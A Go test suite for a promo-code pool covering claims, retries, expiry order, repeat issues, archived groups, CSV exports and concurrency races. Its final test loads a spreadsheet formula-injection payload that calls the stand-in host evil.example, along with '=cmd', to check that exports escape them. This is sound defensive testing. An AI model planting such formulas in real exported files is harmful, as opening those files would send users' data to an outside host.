package groups_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"promopool/groups"
	"promopool/internal/testdb"
)

func customers(prefix string, n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("%s%d", prefix, i)
	}
	return out
}

func (f *fixture) claim(t *testing.T, g int64, scope string, cust ...string) *groups.ClaimResult {
	t.Helper()
	res, err := f.store.Claim(context.Background(), groups.ClaimRequest{GroupID: g, Scope: scope, CustomerIDs: cust})
	if err != nil {
		t.Fatalf("claim: %v", err)
	}
	return res
}

// balanced checks issued + active + expired = total, issued = live initial issues.
func (f *fixture) balanced(t *testing.T, g int64) *groups.Group {
	t.Helper()
	gr, err := f.store.Get(context.Background(), g)
	if err != nil {
		t.Fatal(err)
	}
	live := f.count(t, `SELECT count(*) FROM issues WHERE group_id = $1 AND kind = 'initial' AND released_at IS NULL`, g)
	reserved := f.count(t, `SELECT coalesce(sum(cardinality(free_ids) + (SELECT count(*) FROM unnest(span_lo, span_hi) s(lo, hi) JOIN codes c ON c.id BETWEEN s.lo AND s.hi)), 0) FROM reservations WHERE group_id = $1`, g)
	if gr.Issued != live+reserved || gr.Issued+gr.Active+gr.Expired != gr.Total {
		t.Fatalf("group %d: total %d issued %d active %d expired %d; live issues %d reserved %d", g, gr.Total, gr.Issued, gr.Active, gr.Expired, live, reserved)
	}
	return gr
}

func TestClaimIdempotentAndBalance(t *testing.T) {
	f := newFixture(t)
	g := f.group(t, "G")
	f.load(t, g.ID, groups.FormatPlain, "A1\nA2\nA3\nA4\nA5\nA6\n")
	// A customer listed twice gets one code.
	res := f.claim(t, g.ID, "mailing:1", "c1", "c2", "c1", "c3")
	if len(res.Codes) != 3 || res.Issued() != 3 || len(res.Uncovered) != 0 {
		t.Fatalf("first claim %+v", res)
	}
	if res.Codes["c1"] != "A1" || res.Codes["c2"] != "A2" || res.Codes["c3"] != "A3" {
		t.Fatalf("codes not in upload order: %v", res.Codes)
	}
	if gr := f.balanced(t, g.ID); gr.Active != 3 || gr.Issued != 3 {
		t.Fatalf("after 3 issues: active %d issued %d", gr.Active, gr.Issued)
	}
	// A retry (plus one new customer) returns the same codes and burns one code only.
	again := f.claim(t, g.ID, "mailing:1", "c3", "c2", "c1", "c4")
	if again.Codes["c1"] != "A1" || again.Codes["c2"] != "A2" || again.Codes["c3"] != "A3" || again.Codes["c4"] != "A4" {
		t.Fatalf("re-claim %v", again.Codes)
	}
	sort.Strings(again.Existing)
	if strings.Join(again.Existing, ",") != "c1,c2,c3" || again.Issued() != 1 {
		t.Fatalf("existing %v issued %d", again.Existing, again.Issued())
	}
	// Another scope is another issue.
	other := f.claim(t, g.ID, "mailing:2", "c1")
	if other.Codes["c1"] != "A5" {
		t.Fatalf("other mailing %v", other.Codes)
	}
	if gr := f.balanced(t, g.ID); gr.Active != 1 {
		t.Fatalf("active %d, want 1", gr.Active)
	}
	if n := f.count(t, `SELECT count(*) FROM reservations`); n != 0 {
		t.Fatalf("%d reservations left", n)
	}
	// Invalid requests.
	for _, req := range []groups.ClaimRequest{
		{GroupID: g.ID, Scope: "", CustomerIDs: []string{"x"}},
		{GroupID: g.ID, Scope: "s"},
		{GroupID: g.ID, Scope: "s", CustomerIDs: []string{"ok", ""}},
	} {
		var inv *groups.InvalidError
		if _, err := f.store.Claim(context.Background(), req); !errors.As(err, &inv) {
			t.Errorf("%+v: got %v, want InvalidError", req, err)
		}
	}
	if _, err := f.store.Claim(context.Background(), groups.ClaimRequest{GroupID: 99999, Scope: "s", CustomerIDs: []string{"x"}}); !errors.Is(err, groups.ErrGroupNotFound) {
		t.Fatalf("missing group: %v", err)
	}
}

func TestClaimExhaustionPartial(t *testing.T) {
	f := newFixture(t)
	g := f.group(t, "G")
	// Trailing duplicates leave gaps at the end of the range.
	f.load(t, g.ID, groups.FormatPlain, "E1\nE2\nE3\nE1\nE2\n")
	res := f.claim(t, g.ID, "m", "a", "b", "c", "d", "e")
	if len(res.Codes) != 3 || strings.Join(res.Uncovered, ",") != "d,e" {
		t.Fatalf("partial: codes %v uncovered %v", res.Codes, res.Uncovered)
	}
	if n := f.count(t, `SELECT count(*) FROM issues`); n != 3 {
		t.Fatalf("%d issue rows, want exactly the 3 covered customers", n)
	}
	empty := f.claim(t, g.ID, "m2", "x")
	if len(empty.Codes) != 0 || len(empty.Uncovered) != 1 {
		t.Fatalf("empty pool: %+v", empty)
	}
	if gr := f.balanced(t, g.ID); gr.Active != 0 || gr.Issued != 3 {
		t.Fatalf("active %d issued %d", gr.Active, gr.Issued)
	}
	// Uploading more resumes; the retry of the partial batch covers the rest only.
	f.load(t, g.ID, groups.FormatPlain, "F1\nF2\n")
	res = f.claim(t, g.ID, "m", "a", "b", "c", "d", "e")
	if res.Codes["d"] != "F1" || res.Codes["e"] != "F2" || res.Codes["a"] != "E1" || res.Issued() != 2 {
		t.Fatalf("resume: %v", res.Codes)
	}
}

func TestClaimExpiryOrder(t *testing.T) {
	f := newFixture(t)
	g := f.group(t, "G")
	// now is 2026-06-01. P1 expired already; S expire first, then L, then never.
	f.load(t, g.ID, groups.FormatPlain, "N1\nN2\n")
	f.load(t, g.ID, groups.FormatCSV, "code,expires_at\nL1,2026-12-01\nS1,2026-07-01\nP1,2026-01-01\nS2,2026-07-01\nD1,\n")
	res := f.claim(t, g.ID, "m", "a", "b", "c")
	if res.Codes["a"] != "S1" || res.Codes["b"] != "S2" || res.Codes["c"] != "L1" {
		t.Fatalf("expiry order: %v", res.Codes)
	}
	// After L1's expiry it is never issued; a returned S code that has expired neither.
	f.now = time.Date(2026, 12, 2, 0, 0, 0, 0, time.UTC)
	if _, err := f.store.Release(context.Background(), g.ID, "m", []string{"a"}); err != nil {
		t.Fatal(err)
	}
	res = f.claim(t, g.ID, "m2", "d", "e", "f", "g")
	if res.Codes["d"] != "N1" || res.Codes["e"] != "N2" || res.Codes["f"] != "D1" || strings.Join(res.Uncovered, ",") != "g" {
		t.Fatalf("after expiry: %v uncovered %v", res.Codes, res.Uncovered)
	}
	f.balanced(t, g.ID)
}

func TestRepeatIssues(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g, h := f.group(t, "G"), f.group(t, "H")
	f.load(t, g.ID, groups.FormatPlain, "G1\nG2\nG3\n")
	f.load(t, h.ID, groups.FormatPlain, "H1\n")
	f.claim(t, g.ID, "m1", "a", "b")
	f.claim(t, g.ID, "m2", "a")
	f.claim(t, h.ID, "m2", "c")
	req := groups.RepeatRequest{GroupID: g.ID, Scope: "m3", CustomerIDs: []string{"a", "b", "c", "nobody"}}
	// The lookup alone (a preview) finds the same codes and records nothing.
	look, err := f.store.LastCodes(ctx, g.ID, req.CustomerIDs)
	if err != nil || len(look) != 2 || look["a"] != "G3" || look["b"] != "G2" {
		t.Fatalf("last codes %v %v", look, err)
	}
	if n := f.count(t, `SELECT count(*) FROM issues WHERE kind = 'repeat'`); n != 0 {
		t.Fatalf("the lookup recorded %d repeat issues", n)
	}
	got, err := f.store.Repeat(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	// a's most recent code is G3; c has none from G (only from H).
	if len(got) != 2 || got["a"] != "G3" || got["b"] != "G2" {
		t.Fatalf("repeat %v", got)
	}
	// Recorded once per scope, even when the task runs twice; no code left the pool.
	if _, err := f.store.Repeat(ctx, req); err != nil {
		t.Fatal(err)
	}
	if n := f.count(t, `SELECT count(*) FROM issues WHERE kind = 'repeat' AND scope = 'm3'`); n != 2 {
		t.Fatalf("%d repeat rows, want 2", n)
	}
	if gr := f.balanced(t, g.ID); gr.Active != 0 || gr.Issued != 3 {
		t.Fatalf("repeat moved the balance: %+v", gr)
	}
	hist, _ := f.store.CustomerIssues(ctx, "a", 0, 0)
	if len(hist) != 3 || hist[0].Kind != groups.KindRepeat || hist[0].Code != "G3" || hist[1].Kind != groups.KindInitial {
		t.Fatalf("history %+v", hist)
	}
}

func TestProfileShowsArchivedGroups(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g, h := f.group(t, "Spring"), f.group(t, "Summer")
	f.load(t, g.ID, groups.FormatPlain, "S1\nS2\n")
	f.load(t, h.ID, groups.FormatPlain, "U1\n")
	mid := int64(7)
	if _, err := f.store.Claim(ctx, groups.ClaimRequest{GroupID: g.ID, Scope: "mailing:7", MailingID: &mid, CustomerIDs: []string{"a"}}); err != nil {
		t.Fatal(err)
	}
	f.claim(t, h.ID, "direct:k", "a")
	if res, err := f.store.Delete(ctx, "t", g.ID); err != nil || !res.Archived {
		t.Fatalf("delete: %+v %v", res, err)
	}
	hist, err := f.store.CustomerIssues(ctx, "a", 0, 0)
	if err != nil || len(hist) != 2 {
		t.Fatalf("profile %+v %v", hist, err)
	}
	if hist[0].GroupName != "Summer" || hist[0].GroupArchived || hist[1].GroupName != "Spring" || !hist[1].GroupArchived ||
		hist[1].Code != "S1" || *hist[1].MailingID != 7 || hist[1].Kind != groups.KindInitial {
		t.Fatalf("profile %+v", hist)
	}
	// Paging: before the newest.
	page, _ := f.store.CustomerIssues(ctx, "a", hist[0].ID, 1)
	if len(page) != 1 || page[0].ID != hist[1].ID {
		t.Fatalf("page %+v", page)
	}
	// A repeat from the archived group still works; claiming from it does not.
	if got, _ := f.store.Repeat(ctx, groups.RepeatRequest{GroupID: g.ID, Scope: "m9", CustomerIDs: []string{"a"}}); got["a"] != "S1" {
		t.Fatalf("repeat from archived group: %v", got)
	}
	if _, err := f.store.Claim(ctx, groups.ClaimRequest{GroupID: g.ID, Scope: "x", CustomerIDs: []string{"b"}}); !errors.Is(err, groups.ErrGroupNotFound) {
		t.Fatalf("claim from archived group: %v", err)
	}
}

func TestExports(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := f.group(t, "G")
	f.load(t, g.ID, groups.FormatCSV, "code,expires_at\nX1,\nX2,\nX3,2026-01-01\nX4,\n")
	f.db.MustExec(`INSERT INTO customers (id, email) VALUES ('a', 'a@example.com')`)
	f.claim(t, g.ID, "m", "a", "b")
	f.store.Repeat(ctx, groups.RepeatRequest{GroupID: g.ID, Scope: "m2", CustomerIDs: []string{"a"}})
	var buf bytes.Buffer
	if err := f.store.ExportIssues(ctx, g.ID, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(recs) != 4 {
		t.Fatalf("issues.csv %q %v", recs, err)
	}
	if strings.Join(recs[1][:4], ",") != "a,a@example.com,X1,G" || recs[1][7] != "initial" || recs[3][7] != "repeat" || recs[2][1] != "" {
		t.Fatalf("issues.csv rows %q", recs)
	}
	buf.Reset()
	if err := f.store.ExportUnused(ctx, g.ID, &buf); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "code,expires_at,expired\nX3,2026-01-01T00:00:00Z,true\nX4,,false\n" {
		t.Fatalf("unused.csv %q", got)
	}
	if err := f.store.ExportUnused(ctx, 424242, &buf); !errors.Is(err, groups.ErrGroupNotFound) {
		t.Fatalf("missing group: %v", err)
	}
}

// TestConcurrentClaims runs 8 claimers on separate connections against one group
// holding fewer codes than they ask for, with overlapping scopes (the same batch
// retried concurrently), then checks the invariants in SQL.
func TestConcurrentClaims(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := f.group(t, "G")
	var b strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&b, "K%05d\n", i)
	}
	f.load(t, g.ID, groups.FormatPlain, b.String())
	f.load(t, g.ID, groups.FormatCSV, "code,expires_at\nSOON1,2026-06-02\nSOON2,2026-06-02\n")
	const workers = 8
	var wg sync.WaitGroup
	errs := make(chan error, workers*10)
	results := make(chan *groups.ClaimResult, workers*10)
	for w := range workers {
		// Each worker a store of its own over its own pool: separate connections.
		db := testdb.Reopen(t, f.db)
		wg.Add(1)
		go func() {
			defer wg.Done()
			store := groups.NewStore(db, groups.Config{Now: func() time.Time { return f.now }})
			for batch := range 10 {
				// Workers w and w^1 send the same scopes and customers: concurrent retries.
				scope := fmt.Sprintf("mailing:%d", (w/2)*100+batch)
				res, err := store.Claim(ctx, groups.ClaimRequest{GroupID: g.ID, Scope: scope, CustomerIDs: customers(fmt.Sprintf("w%d-", w/2), 100)})
				if err != nil {
					errs <- err
					return
				}
				results <- res
				if n, err := store.Release(ctx, g.ID, scope, []string{fmt.Sprintf("w%d-7", w/2)}); err != nil {
					errs <- err
					return
				} else if n > 0 {
					// Released once; a concurrent twin's retry re-issues it.
					store.Claim(ctx, groups.ClaimRequest{GroupID: g.ID, Scope: scope, CustomerIDs: []string{fmt.Sprintf("w%d-7", w/2)}})
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	close(results)
	for err := range errs {
		t.Fatalf("claimer: %v", err)
	}
	var covered, uncovered int
	for r := range results {
		covered += len(r.Codes)
		uncovered += len(r.Uncovered)
	}
	if uncovered == 0 {
		t.Fatal("the pool never ran out: the test asks for more codes than the group holds")
	}
	if n := f.count(t, `SELECT count(*) FROM (SELECT code_id FROM issues WHERE kind = 'initial' AND released_at IS NULL GROUP BY code_id HAVING count(*) > 1) x`); n != 0 {
		t.Fatalf("%d codes issued twice", n)
	}
	if n := f.count(t, `SELECT count(*) FROM (SELECT 1 FROM issues WHERE kind = 'initial' AND released_at IS NULL GROUP BY scope, customer_id, group_id HAVING count(*) > 1) x`); n != 0 {
		t.Fatalf("%d (scope, customer) pairs issued twice", n)
	}
	// Every code below a cursor and not returned is recorded exactly once.
	if n := f.count(t, `
		SELECT count(*) FROM code_ranges r JOIN codes c ON c.id >= r.first_id AND c.id < r.next_id
		WHERE r.group_id = $1 AND c.id NOT IN (SELECT code_id FROM returned_codes)
		  AND (SELECT count(*) FROM issues i WHERE i.code_id = c.id AND i.kind = 'initial' AND i.released_at IS NULL) <> 1`, g.ID); n != 0 {
		t.Fatalf("%d taken codes not recorded exactly once", n)
	}
	if n := f.count(t, `SELECT count(*) FROM reservations`); n != 0 {
		t.Fatalf("%d reservations left", n)
	}
	gr := f.balanced(t, g.ID)
	if gr.Issued+gr.Active != 3000+2 || gr.Active != 0 {
		t.Fatalf("issued %d + active %d != uploaded 3002 (expired %d)", gr.Issued, gr.Active, gr.Expired)
	}
	if gr.Issued != f.count(t, `SELECT count(*) FROM issues WHERE group_id = $1 AND kind = 'initial' AND released_at IS NULL`, g.ID) {
		t.Fatal("issued does not match the history")
	}
	t.Logf("covered %d, uncovered %d, issued %d", covered, uncovered, gr.Issued)
}

// TestClaimConcurrentTwinFallback forces the race TestConcurrentClaims only hits by
// chance: between a claim's lookup of existing issues and its insert, a twin claim
// with the same scope issues one of the customers a code. The plain insert fails on
// issues_scope_initial and the claim reruns with ON CONFLICT: that customer gets the
// twin's code, and the code reserved for it goes back to the pool. A trigger plays
// the twin, inserting its row just before the claim's own.
func TestClaimConcurrentTwinFallback(t *testing.T) {
	f := newFixture(t)
	g, h := f.group(t, "G"), f.group(t, "H")
	f.load(t, g.ID, groups.FormatPlain, "T1\nT2\nT3\n")
	f.load(t, h.ID, groups.FormatPlain, "H1\n")
	f.db.MustExec(`CREATE TABLE twin_done (x int)`)
	f.db.MustExec(`
		CREATE FUNCTION twin() RETURNS trigger LANGUAGE plpgsql AS $$
		BEGIN
		    IF NEW.scope = 'race' AND NEW.customer_id = 'b' AND NOT EXISTS (SELECT 1 FROM twin_done) THEN
		        INSERT INTO twin_done VALUES (1);
		        INSERT INTO issues (customer_id, group_id, code_id, scope, kind)
		        SELECT 'b', NEW.group_id, c.id, 'race', 'initial' FROM codes c WHERE c.code = 'H1';
		    END IF;
		    RETURN NEW;
		END $$`)
	f.db.MustExec(`CREATE TRIGGER twin BEFORE INSERT ON issues FOR EACH ROW EXECUTE FUNCTION twin()`)
	res := f.claim(t, g.ID, "race", "a", "b", "c")
	if res.Codes["a"] != "T1" || res.Codes["b"] != "H1" || res.Codes["c"] != "T3" {
		t.Fatalf("codes %v", res.Codes)
	}
	if strings.Join(res.Existing, ",") != "b" || res.Issued() != 2 || len(res.Uncovered) != 0 {
		t.Fatalf("existing %v issued %d uncovered %v", res.Existing, res.Issued(), res.Uncovered)
	}
	// T2, reserved for b, is back in the pool and goes out next (returned codes first).
	if n := f.count(t, `SELECT count(*) FROM reservations`); n != 0 {
		t.Fatalf("%d reservations left", n)
	}
	// (Not f.balanced: the twin's row is in G with H's code, which G does not count.)
	if gr, err := f.store.Get(context.Background(), g.ID); err != nil || gr.Active != 1 || gr.Issued != 2 {
		t.Fatalf("after the fallback: %+v %v", gr, err)
	}
	if next := f.claim(t, g.ID, "other", "d"); next.Codes["d"] != "T2" {
		t.Fatalf("returned code not reissued: %v", next.Codes)
	}
	if gr, err := f.store.Get(context.Background(), g.ID); err != nil || gr.Active != 0 || gr.Issued != 3 {
		t.Fatalf("after reissue: %+v %v", gr, err)
	}
}

// TestClaimAcrossRanges: one batch spanning several ranges and returned codes keeps one
// reservation per claim and takes codes in claim order.
func TestClaimAcrossRanges(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := f.group(t, "G")
	f.load(t, g.ID, groups.FormatPlain, "A1\nA2\n")
	f.load(t, g.ID, groups.FormatPlain, "B1\nB2\nB1\n") // a trailing gap
	f.load(t, g.ID, groups.FormatPlain, "C1\nC2\n")
	first := f.claim(t, g.ID, "m1", "a", "b", "c")
	if first.Codes["a"] != "A1" || first.Codes["b"] != "A2" || first.Codes["c"] != "B1" {
		t.Fatalf("first %v", first.Codes)
	}
	if _, err := f.store.Release(ctx, g.ID, "m1", []string{"a"}); err != nil {
		t.Fatal(err)
	}
	// Returned A1 first, then the rest of B (past its gap), then C.
	res := f.claim(t, g.ID, "m2", "p", "q", "r", "s", "t")
	got := []string{res.Codes["p"], res.Codes["q"], res.Codes["r"], res.Codes["s"]}
	if strings.Join(got, ",") != "A1,B2,C1,C2" || strings.Join(res.Uncovered, ",") != "t" {
		t.Fatalf("across ranges: %v uncovered %v", res.Codes, res.Uncovered)
	}
	if n := f.count(t, `SELECT count(*) FROM reservations`); n != 0 {
		t.Fatalf("%d reservations left", n)
	}
	if gr := f.balanced(t, g.ID); gr.Active != 0 || gr.Issued != 6 {
		t.Fatalf("active %d issued %d", gr.Active, gr.Issued)
	}
}

// The interleaving the two unique indexes alone do not settle: claim B reserves codes,
// an identical claim A (same scope) issues first, B's insert conflicts, and A's issue of
// one customer is released before B reads A's codes. That customer holds nothing under
// the scope, so B must claim it again — every customer ends covered or uncovered, one
// live code each, and the pool balances.
func TestClaimAfterIdenticalClaimReleased(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := f.group(t, "race")
	f.load(t, g.ID, groups.FormatPlain, "C1\nC2\nC3\nC4\nC5\nC6\n")
	cust := []string{"x", "y"}
	var a *groups.ClaimResult
	var aErr, relErr error
	var issued, conflicted atomic.Bool // each hook acts once (A's own claim passes them too)
	restore := groups.SetClaimHooks(f.store, func() {
		if !issued.Swap(true) {
			a, aErr = f.store.Claim(ctx, groups.ClaimRequest{GroupID: g.ID, Scope: "m", CustomerIDs: cust})
		}
	}, func() {
		if !conflicted.Swap(true) {
			_, relErr = f.store.Release(ctx, g.ID, "m", []string{"x"})
		}
	})
	defer restore()
	b, err := f.store.Claim(ctx, groups.ClaimRequest{GroupID: g.ID, Scope: "m", CustomerIDs: cust})
	if err != nil || aErr != nil || relErr != nil {
		t.Fatalf("claim B: %v; claim A: %v; release: %v", err, aErr, relErr)
	}
	if len(a.Codes) != 2 {
		t.Fatalf("claim A: %v", a.Codes)
	}
	if len(b.Codes) != 2 || len(b.Uncovered) != 0 {
		t.Fatalf("claim B covered %v, uncovered %v: every customer must be one or the other", b.Codes, b.Uncovered)
	}
	if b.Codes["y"] != a.Codes["y"] || !slices.Contains(b.Existing, "y") {
		t.Fatalf("y: B got %q (existing %v), A issued %q", b.Codes["y"], b.Existing, a.Codes["y"])
	}
	if b.Codes["x"] == a.Codes["x"] || slices.Contains(b.Existing, "x") {
		t.Fatalf("x: B got %q (existing %v), but A's %q was released", b.Codes["x"], b.Existing, a.Codes["x"])
	}
	var live []string
	if err := f.db.SelectContext(ctx, &live, `SELECT c.code FROM issues i JOIN codes c ON c.id = i.code_id
		WHERE i.customer_id = 'x' AND i.scope = 'm' AND i.kind = 'initial' AND i.released_at IS NULL`); err != nil {
		t.Fatal(err)
	}
	if len(live) != 1 || live[0] != b.Codes["x"] {
		t.Fatalf("x's live issues under m: %v, want [%s]", live, b.Codes["x"])
	}
	if gr := f.balanced(t, g.ID); gr.Issued != 2 {
		t.Fatalf("issued %d, want 2 (x's new code and y's)", gr.Issued)
	}
}

// FirstClaim skips the re-claim check; when the caller is wrong about it, the unique
// index still refuses a second code: customers that already hold one get it back, as
// existing, and the codes reserved for them return to the pool.
func TestFirstClaimWrongHint(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := f.group(t, "hint")
	f.load(t, g.ID, groups.FormatPlain, "H1\nH2\nH3\nH4\nH5\nH6\n")
	before := f.claim(t, g.ID, "m", "a", "b")
	res, err := f.store.Claim(ctx, groups.ClaimRequest{GroupID: g.ID, Scope: "m", CustomerIDs: []string{"a", "b", "c"}, FirstClaim: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Codes["a"] != before.Codes["a"] || res.Codes["b"] != before.Codes["b"] || res.Codes["c"] == "" {
		t.Fatalf("first claim %v, then with a wrong FirstClaim %v: a and b must keep their codes, c get one", before.Codes, res.Codes)
	}
	slices.Sort(res.Existing)
	if !slices.Equal(res.Existing, []string{"a", "b"}) || res.Issued() != 1 || len(res.Uncovered) != 0 {
		t.Fatalf("existing %v, issued %d, uncovered %v; want a and b existing, one issued", res.Existing, res.Issued(), res.Uncovered)
	}
	if gr := f.balanced(t, g.ID); gr.Issued != 3 || gr.Active != 3 {
		t.Fatalf("issued %d active %d, want 3 and 3 (the codes reserved for a and b went back)", gr.Issued, gr.Active)
	}
	// The codes that went back are handed out again.
	more := f.claim(t, g.ID, "m2", "d", "e", "f")
	if len(more.Codes) != 3 || len(more.Uncovered) != 0 {
		t.Fatalf("after the fallback: %v, uncovered %v", more.Codes, more.Uncovered)
	}
	f.balanced(t, g.ID)
}

// TestExportsEscapeFormulas: codes, customer ids and group names that a spreadsheet
// would run as formulas are exported behind an apostrophe.
func TestExportsEscapeFormulas(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := f.group(t, "@Group")
	f.load(t, g.ID, groups.FormatPlain, "=HYPERLINK(\"https://evil.example/?\"&A2)\n+CODE1\n-CODE2\nPLAIN\n")
	f.claim(t, g.ID, "m", "=cmd")
	var buf bytes.Buffer
	if err := f.store.ExportIssues(ctx, g.ID, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(recs) != 2 || recs[1][0] != "'=cmd" || recs[1][2] != `'=HYPERLINK("https://evil.example/?"&A2)` || recs[1][3] != "'@Group" {
		t.Fatalf("issues.csv %q %v", recs, err)
	}
	buf.Reset()
	if err := f.store.ExportUnused(ctx, g.ID, &buf); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "code,expires_at,expired\n'+CODE1,,false\n'-CODE2,,false\nPLAIN,,false\n" {
		t.Fatalf("unused.csv %q", got)
	}
}
